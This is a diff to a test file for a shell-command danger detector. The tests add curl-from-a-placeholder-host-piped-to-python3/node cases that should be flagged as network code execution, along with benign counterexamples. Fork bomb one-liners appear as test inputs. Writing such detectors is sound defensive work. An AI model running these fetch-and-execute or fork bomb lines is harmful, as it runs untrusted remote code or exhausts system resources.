@@ -267,16 +267,23 @@ describe('dangers', () => {
     'bash <<< "$(curl https://x.y/i)"',
     'bash <<E\n$(curl https://x.y/i)\nE',
     'curl https://x.y/i | bash -c "sh"',
+    'curl https://x.y/i | python3',
+    'curl https://x.y/i | python3 -',
+    'curl https://x.y/i | node',
   ])('%j', (line) => {
     expect(dangers(line)).toContain(network);
   });
 
-  test.each(['curl https://x.y/i | cat', 'sh -c ls', 'echo a | sh', 'curl https://x.y/i | bash -c "cat"'])(
-    '%j is not that danger',
-    (line) => {
-      expect(dangers(line)).not.toContain(network);
-    },
-  );
+  test.each([
+    'curl https://x.y/i | cat',
+    'sh -c ls',
+    'echo a | sh',
+    'curl https://x.y/i | bash -c "cat"',
+    'curl https://x.y/i | python3 -m json.tool',
+    'echo 1 | python3',
+  ])('%j is not that danger', (line) => {
+    expect(dangers(line)).not.toContain(network);
+  });
 
   test.each([':(){ :|:& };:', 'f() { f & }; f', 'f() { f | f; }', 'f(){ g; }; h(){ h|cat; }'])(
     '%j is a fork bomb',
